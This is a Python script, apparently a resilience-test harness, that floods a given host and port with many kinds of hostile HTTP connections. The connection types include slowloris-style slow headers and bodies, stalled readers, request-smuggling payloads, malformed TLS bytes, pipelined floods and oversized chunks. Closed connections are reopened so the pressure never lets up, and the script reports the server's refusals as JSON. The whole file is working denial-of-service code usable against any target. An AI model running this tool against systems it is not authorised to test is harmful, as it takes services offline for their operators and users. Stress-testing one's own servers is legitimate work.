#!/usr/bin/env python3
"""Keeps so many hostile connections to a server, of every kind at once, until it is ended.

    hostile.py HOST:PORT COUNT

A connection that the server closes is opened again after a moment, so that the attack does not fade. On
SIGTERM prints JSON: {"opened", "connected" now, "closed by the server", "refused": {status: count}} and ends.
"""
import collections
import errno
import heapq
import json
import random
import resource
import select
import signal
import socket
import sys
import time

GET = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n"
LIVE = b"GET /livez HTTP/1.1\r\nHost: a\r\n\r\n"
POST = b"POST /access/v1/evaluation HTTP/1.1\r\nHost: a\r\n"
LENGTH = POST + b"Content-Length: 1000000\r\n\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"

# kind: (what is sent first, what is sent again and again, how often in seconds, whether it reads).
KINDS = {
    "slow heads": (b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ", b"a", 1.0, True),
    "slow bodies": (LENGTH, b"a", 0.5, True),
    "slow chunks": (CHUNKED, b"1\r\na\r\n", 0.5, True),
    "half bodies": (LENGTH + b"a" * 400000, b"", 0, True),
    "stalled readers": (GET * 200, b"", 0, False),
    "half requests": (b"GET / HT", b"", 0, True),
    "garbage": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200), b"", 0, True),
    "smuggling": (POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + LIVE, b"", 0, True),
    "idle": (LIVE, b"", 0, True),
    "silent": (b"", b"", 0, True),
    "pipelines": (LIVE * 50, LIVE * 50, 2.0, True),
    "huge chunks": (CHUNKED + b"7fffffff\r\n", b"a" * 1000, 0.5, True),
    "vanishing": (LENGTH[:40], None, 1.0, False),
}


class Attack:
    """All connections, and what each of them does next."""

    def __init__(self, address, count):
        self.address = address
        self.poll = select.epoll()
        self.peers = {}
        self.due = []
        self.order = 0
        self.opened = self.closed = 0
        self.statuses = collections.Counter()
        names = list(KINDS)
        for index in range(count):
            # Spread over a few seconds: the crowd's arrival is not what is measured.
            self.at(time.monotonic() + 5 * index / count, self.open, names[index % len(names)])

    def at(self, when, what, argument):
        self.order += 1
        heapq.heappush(self.due, (when, self.order, what, argument))

    def open(self, kind):
        peer = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        peer.setblocking(False)
        first, _, _, reads = KINDS[kind]
        if not reads:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        status = peer.connect_ex(self.address)
        if status not in (0, errno.EINPROGRESS):
            peer.close()
            self.at(time.monotonic() + 1, self.open, kind)
            return
        self.opened += 1
        self.peers[peer.fileno()] = [peer, kind, first]
        self.poll.register(peer.fileno(), select.EPOLLOUT | (select.EPOLLIN if reads else 0))

    def close(self, number):
        peer, kind, _ = self.peers.pop(number)
        self.poll.unregister(number)
        peer.close()
        self.at(time.monotonic() + random.uniform(0.2, 0.6), self.open, kind)

    def again(self, peer):
        number = peer[0].fileno()
        if number < 0 or self.peers.get(number) is not peer:
            return
        repeated = KINDS[peer[1]][1]
        if repeated is None:
            self.close(number)
            return
        peer[2] = repeated
        self.send(number)

    def send(self, number):
        peer = self.peers[number]
        try:
            while peer[2]:
                peer[2] = peer[2][peer[0].send(peer[2]):]
        except BlockingIOError:
            return
        except OSError:
            self.closed += 1
            self.close(number)
            return
        _, repeated, period, reads = KINDS[peer[1]]
        self.poll.modify(number, select.EPOLLIN if reads else 0)
        if period:
            self.at(time.monotonic() + period, self.again, peer)

    def receive(self, number):
        peer = self.peers[number]
        try:
            data = peer[0].recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data.startswith(b"HTTP/1.1 ") and not data.startswith(b"HTTP/1.1 200"):
            self.statuses[data[9:12].decode("latin-1")] += 1
        if not data:
            self.closed += 1
            self.close(number)

    def run(self):
        while True:
            wait = max(0.0, self.due[0][0] - time.monotonic()) if self.due else 1.0
            for number, events in self.poll.poll(min(wait, 1.0), 512):
                if number in self.peers and events & select.EPOLLOUT:
                    self.send(number)
                if number in self.peers and events & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR):
                    self.receive(number)
            now = time.monotonic()
            while self.due and self.due[0][0] <= now:
                _, _, what, argument = heapq.heappop(self.due)
                what(argument)


def main():
    host, _, port = sys.argv[1].rpartition(":")
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack((host, int(port)), int(sys.argv[2]))

    def end(*_):
        print(json.dumps({
            "opened": attack.opened, "connected": len(attack.peers), "closed by the server": attack.closed,
            "refused": dict(sorted(attack.statuses.items())),
        }), flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, end)
    attack.run()


main()
